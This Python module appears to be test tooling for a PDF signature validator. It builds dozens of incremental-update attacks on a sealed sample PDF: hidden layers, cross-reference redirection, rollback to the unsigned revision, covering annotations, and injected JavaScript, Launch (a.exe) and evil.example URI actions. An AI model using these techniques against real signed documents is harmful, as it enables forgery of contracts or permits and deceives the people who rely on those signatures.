"""Further attacks on a sealed `rich_document`: content hidden or exchanged from wherever a viewer takes it.

All leave the signature value right for its own bytes. See `attacks` for the classes built on the plain document.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import rich_document as d
from pdf_bytes import append, body_of, last_startxref, number_with, size_of, stream, table

EVIL = b"BT /F1 18 Tf 72 700 Td (Permit 2026-9999 granted) Tj ET"
DRAWN = b"/Type /XObject /Subtype /Form /BBox [0 0 400 40]"
Attack = Callable[[bytes], bytes]
REACHED: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    REACHED[function.__name__] = function
    return function


def replaced(number: int, old: bytes, new: bytes) -> Attack:
    """One object with a part of its source exchanged."""

    def change(pdf: bytes) -> bytes:
        body = body_of(pdf, number)
        assert old in body, (number, old, body)
        return append(pdf, {number: body.replace(old, new, 1)})

    return change


def extended(number: int, entries: bytes) -> Attack:
    """One dictionary with entries added."""

    def change(pdf: bytes) -> bytes:
        return append(pdf, {number: body_of(pdf, number)[:-2] + entries + b" >>"})

    return change


def rewritten(number: int, body: bytes) -> Attack:
    return lambda pdf: append(pdf, {number: body})


def freed(number: int) -> Attack:
    return lambda pdf: append(pdf, {}, freed=(number,))


REACHED |= {
    # hide: a cover goes, or something that was shown goes
    "hide_cover_emptied": rewritten(d.OVERLAY, stream(b" ", DRAWN)),
    "hide_cover_freed": freed(d.OVERLAY),
    "hide_cover_made_null": rewritten(d.OVERLAY, b"null"),
    "hide_by_graphics_state": replaced(d.GRAPHICS_STATE, b"/ca 1", b"/ca 0"),
    "hide_layer_off": replaced(d.LAYERS, b"/ON [33 0 R]", b"/OFF [33 0 R]"),
    "hide_layer_usage": extended(d.LAYER, b"/Usage << /View << /ViewState /OFF >> >>"),
    "hide_layer_for_print": extended(d.LAYERS, b"/Configs [<< /OFF [33 0 R] >>]"),
    "hide_existing_note_freed": freed(d.NOTE),
    "hide_existing_note_by_flag": replaced(d.NOTE, b"/F 4", b"/F 2"),
    "hide_existing_note_by_layer": extended(d.NOTE, b"/OC 33 0 R"),
    "hide_existing_note_taken_off": replaced(d.PAGE_1, b" 30 0 R", b""),
    "hide_field_taken_off": replaced(d.PAGE_1, b"/Annots [5 0 R", b"/Annots ["),
    "hide_page_cropped": extended(d.PAGE_1, b"/CropBox [0 0 595 400]"),
    "hide_pages_cropped_by_inheritance": replaced(2, b"[0 0 595 842]", b"[0 0 595 400]"),
    "hide_pages_rotated_by_inheritance": extended(2, b"/Rotate 180"),
    "hide_page_unit": extended(d.PAGE_1, b"/UserUnit 9"),
    # replace: what is drawn is exchanged behind the page's back
    "replace_encoding": replaced(d.ENCODING, b"/zero /one", b"/nine /one"),
    "replace_font_descriptor": replaced(d.DESCRIPTOR, b"/Flags 32", b"/FontFile2 90 0 R /Flags 32"),
    "replace_image": rewritten(d.IMAGE, stream(b"\x00", d.PIXEL)),
    "replace_inherited_resources": replaced(d.INHERITED, b"3 0 R", b"90 0 R"),
    "replace_second_page_content": rewritten(d.CONTENT_2, stream(EVIL)),
    "replace_existing_note_drawing": replaced(d.NOTE_DRAWING, b"conditions apply", b"no conditions!!!"),
    "replace_existing_note_text": replaced(d.NOTE, b"conditions apply", b"no conditions!!!"),
    "replace_existing_note_place": replaced(d.NOTE, b"[300 600 500 640]", b"[300 100 500 140]"),
    "replace_link_target": replaced(d.LINK, b"example.cn", b"evil.example"),
    "replace_field_drawing_resources": replaced(d.FIELD_RESOURCES, b"3 0 R", b"90 0 R"),
    "replace_checkbox_states_swapped": replaced(d.CHECKBOX, b"/Yes 26 0 R /Off 27 0 R", b"/Yes 27 0 R /Off 26 0 R"),
    "replace_checkbox_drawing": rewritten(d.UNCHECKED, stream(b"0 0 20 20 re f", DRAWN)),
    "replace_choice_texts": replaced(d.CHOICE, b"(Type A)", b"(Type Z)"),
    "replace_field_script": extended(d.TEXT_FIELD, b"/AA << /F << /S /JavaScript /JS (event.value=1) >> >>"),
    "replace_field_moved": replaced(d.TEXT_FIELD, b"[72 600 272 620]", b"[72 690 472 730]"),
    "replace_form_font": replaced(d.FORM, b"/F1 3 0 R", b"/F1 90 0 R"),
    "replace_form_by_xfa": extended(d.FORM, b"/XFA [(template) 90 0 R]"),
    "replace_form_calculation": extended(d.FORM, b"/CO [5 0 R]"),
    "replace_pages_order": replaced(2, b"[10 0 R 12 0 R]", b"[12 0 R 10 0 R]"),
    "replace_page_shown_twice": replaced(2, b"[10 0 R 12 0 R] /Count 2", b"[10 0 R 12 0 R 12 0 R] /Count 3"),
    "replace_page_group": extended(d.PAGE_1, b"/Group << /S /Transparency /CS /DeviceGray >>"),
    # the document around the pages
    "names_script": replaced(d.NAMES, b"<< >>", b"<< /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
    "names_attachment": replaced(d.NAMES, b"<< >>", b"<< /EmbeddedFiles << /Names [(a) << /F (a) >>] >> >>"),
    "page_labels": replaced(d.LABELS, b"/S /D", b"/S /R"),
    "outlines": extended(d.OUTLINES, b"/First 90 0 R /Last 90 0 R /Count 1"),
    "page_action": extended(d.PAGE_1, b"/AA << /O << /S /URI /URI (https://evil.example) >> >>"),
    "catalog_action": extended(1, b"/AA << /WC << /S /JavaScript /JS (x) >> >>"),
    "catalog_language": replaced(1, b"/Lang (zh)", b"/Lang (en)"),
    "catalog_collection": extended(1, b"/Collection << /View /D /D (other.pdf) >>"),
    "catalog_needs_rendering": extended(1, b"/NeedsRendering true"),
    # the seal's place and picture
    "seal_place_by_one_point": replaced(d.SEAL_RECT, b"[320 80 440 200]", b"[321 80 441 200]"),
    "seal_place_object_freed": freed(d.SEAL_RECT),
    "seal_stretched": replaced(d.SEAL_RECT, b"[320 80 440 200]", b"[20 80 440 700]"),
    "seal_not_printed": replaced(d.EMPTY_SEAL, b"/F ", b"/F 32 /X "),
    "seal_on_a_layer": extended(d.EMPTY_SEAL, b"/OC 33 0 R"),
    "seal_background": extended(d.EMPTY_SEAL, b"/MK << /BG [1 1 1] >>"),
    "seal_action": extended(d.EMPTY_SEAL, b"/A << /S /URI /URI (https://evil.example) >>"),
    "seal_freed": freed(d.EMPTY_SEAL),
}  # fmt: skip


@attack
def hide_and_replace_by_redirected_reference(pdf: bytes) -> bytes:
    """No new object: the cross-references lead page 1's content to a copy that was signed inside another stream."""
    place = pdf.index(b"11 0 obj", pdf.index(b"% carrier")) if b"% carrier" in pdf else pdf.index(b"13 0 obj")
    start = len(pdf)
    trailer = b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (size_of(pdf), last_startxref(pdf))
    return pdf + table({d.CONTENT_1: place}) + trailer + b"startxref\n%d\n%%%%EOF\n" % start


@attack
def hide_by_generation(pdf: bytes) -> bytes:
    """The same object again under generation 1, to which nothing refers."""
    out = bytearray(pdf + b"11 1 obj\n" + stream(EVIL) + b"\nendobj\n")
    start = len(out)
    out += b"xref\n11 1\n%010d 00001 n \n" % len(pdf)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (size_of(pdf), last_startxref(pdf))
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


@attack
def replace_by_hidden_references(pdf: bytes) -> bytes:
    """Only the stream beside the table (hybrid) names the new content."""
    number, out = size_of(pdf), bytearray(pdf)
    place = len(out)
    out += b"11 0 obj\n%s\nendobj\n" % stream(EVIL)
    hidden = len(out)
    row = bytes([1]) + place.to_bytes(4, "big") + b"\0"
    out += b"%d 0 obj\n%s\nendobj\n" % (
        number,
        stream(row, b"/Type /XRef /W [1 4 1] /Index [11 1] /Size %d" % (number + 1)),
    )
    start = len(out)
    out += b"xref\n0 0\ntrailer\n<< /Size %d /Root 1 0 R /Prev %d /XRefStm %d >>\n" % (
        number + 1,
        last_startxref(pdf),
        hidden,
    )
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


@attack
def rolled_back_to_before_the_seal(pdf: bytes) -> bytes:
    """The last startxref leads to the revision before sealing: viewers show no seal at all."""
    first = int(re.findall(rb"startxref\s+(\d+)", pdf)[0])
    return pdf + b"startxref\n%d\n%%%%EOF\n" % first


@attack
def annotations_in_another_order(pdf: bytes) -> bytes:
    """What lay beneath is drawn on top."""
    page = body_of(pdf, d.PAGE_1)
    listed = re.search(rb"/Annots\s*\[(.*?)\]", page, re.S)
    assert listed
    turned = b" ".join(reversed(re.findall(rb"\d+ 0 R", listed[1])))
    return append(pdf, {d.PAGE_1: page.replace(listed[1], turned)})


@attack
def annotation_listed_twice(pdf: bytes) -> bytes:
    page = body_of(pdf, d.PAGE_1)
    return append(pdf, {d.PAGE_1: re.sub(rb"(/Annots\s*\[.*?)\]", rb"\1 %d 0 R]" % d.NOTE, page, flags=re.S)})


@attack
def objects_left_out_by_the_size(pdf: bytes) -> bytes:
    """Readers that keep to /Size see no seal, nor anything else with a higher number."""
    return re.sub(rb"(.*)/Size \d+", rb"\1/Size 5", append(pdf, {4: b"<< /Title (Permit 1) >>"}), flags=re.S)


@attack
def seal_on_the_second_page_too(pdf: bytes) -> bytes:
    return extended(d.PAGE_2, b"/Annots [%d 0 R]" % d.EMPTY_SEAL)(pdf)


@attack
def seal_moved_to_the_second_page(pdf: bytes) -> bytes:
    first = body_of(pdf, d.PAGE_1).replace(b" 40 0 R", b"")
    second = body_of(pdf, d.PAGE_2)[:-2] + b"/Annots [40 0 R] >>"
    widget = body_of(pdf, d.EMPTY_SEAL).replace(b"/P 10 0 R", b"/P 12 0 R")
    return append(pdf, {d.PAGE_1: first, d.PAGE_2: second, d.EMPTY_SEAL: widget})


@attack
def seal_drawing_resources_exchanged(pdf: bytes) -> bytes:
    """Whatever the seal's appearance draws with, one step down."""
    shown = re.search(rb"/AP\s*<<\s*/N\s+(\d+) 0 R", body_of(pdf, d.EMPTY_SEAL))
    assert shown
    inner = re.findall(rb"(\d+) 0 R", body_of(pdf, int(shown[1])))
    number = int(inner[-1]) if inner else int(shown[1])
    return append(pdf, {number: stream(EVIL, DRAWN)})


@attack
def seal_drawing_matrix(pdf: bytes) -> bytes:
    shown = re.search(rb"/AP\s*<<\s*/N\s+(\d+) 0 R", body_of(pdf, d.EMPTY_SEAL))
    assert shown
    body = body_of(pdf, int(shown[1]))
    return append(pdf, {int(shown[1]): body.replace(b"<<", b"<< /Matrix [0 1 -1 0 0 0]", 1)})


@attack
def signature_hung_on_a_second_field(pdf: bytes) -> bytes:
    number, value = size_of(pdf), number_with(pdf, rb"/ByteRange")
    field = b"<< /FT /Sig /T (Seal2) /V %d 0 R /Type /Annot /Subtype /Widget /Rect [10 10 99 99] /F 4 >>" % value
    form = re.sub(rb"/Fields\s*\[", b"/Fields [%d 0 R " % number, body_of(pdf, d.FORM))
    return append(pdf, {number: field, d.FORM: form})


@attack
def unsigned_field_coloured_over_text(pdf: bytes) -> bytes:
    """SSA: an empty signature field without appearance whose background hides what lies beneath."""
    number = size_of(pdf)
    field = b"<< /FT /Sig /T (Empty) /Subtype /Widget /Rect [60 690 460 730] /P 10 0 R /F 4 /MK << /BG [1 1 1] >> >>"
    page = body_of(pdf, d.PAGE_1).replace(b"/Annots [", b"/Annots [%d 0 R " % number)
    form = re.sub(rb"/Fields\s*\[", b"/Fields [%d 0 R " % number, body_of(pdf, d.FORM))
    return append(pdf, {number: field, d.PAGE_1: page, d.FORM: form})


def noted(pdf: bytes, *annotations: bytes) -> bytes:
    """Annotations added to page 1; object 0 in them stands for a drawing that covers the text."""
    first = size_of(pdf)
    drawing = first + len(annotations)
    added = {first + index: body.replace(b"DRAWING", b"%d 0 R" % drawing) for index, body in enumerate(annotations)}
    references = b"".join(b"%d 0 R " % number for number in added)
    page = body_of(pdf, d.PAGE_1).replace(b"/Annots [", b"/Annots [" + references)
    return append(pdf, {d.PAGE_1: page, **added, drawing: stream(EVIL, DRAWN)})


OVER = b"/Rect [60 690 460 730]"
KINDS = (
    "FreeText Stamp Redact Square Circle Line Polygon PolyLine Ink FileAttachment Sound Movie Screen Watermark "
    "PrinterMark TrapNet 3D RichMedia Projection Widget Unknown"
)
# What may not be laid over a page even where notes are permitted (P=3)
COVERING: dict[str, tuple[bytes, ...]] = {
    kind: (b"<< /Type /Annot /Subtype /%s %s /F 4 /AP << /N DRAWING >> >>" % (kind.encode(), OVER),)
    for kind in KINDS.split()
} | {
    "note_with_a_large_drawing": (b"<< /Type /Annot /Subtype /Text %s /AP << /N DRAWING >> >>" % OVER,),
    "highlight_with_a_drawing": (b"<< /Type /Annot /Subtype /Highlight %s /AP << /N DRAWING >> >>" % OVER,),
    "highlight_in_black": (
        b"<< /Type /Annot /Subtype /Highlight %s /C [0 0 0] /QuadPoints [60 730 460 730 60 690 460 690] >>" % OVER,
    ),
    "link_with_a_thick_border": (b"<< /Type /Annot /Subtype /Link %s /Border [0 0 300] /C [1 1 1] >>" % OVER,),
    "link_with_a_thick_border_style": (b"<< /Type /Annot /Subtype /Link %s /BS << /W 300 >> >>" % OVER,),
    "link_with_a_script": (b"<< /Type /Annot /Subtype /Link %s /A << /S /JavaScript /JS (x) >> >>" % OVER,),
    "link_that_launches": (b"<< /Type /Annot /Subtype /Link %s /A << /S /Launch /F (a.exe) >> >>" % OVER,),
    "mosaic_of_small_notes": tuple(
        b"<< /Type /Annot /Subtype /Text /Rect [%d 690 %d 730] /AP << /N DRAWING >> >>" % (x, x + 50)
        for x in range(60, 460, 50)
    ),
    "without_a_kind": (b"<< /Type /Annot %s /AP << /N DRAWING >> >>" % OVER,),
    "note_with_an_action": (b"<< /Type /Annot /Subtype /Text %s /AA << /E << /S /JavaScript >> >> >>" % OVER,),
}
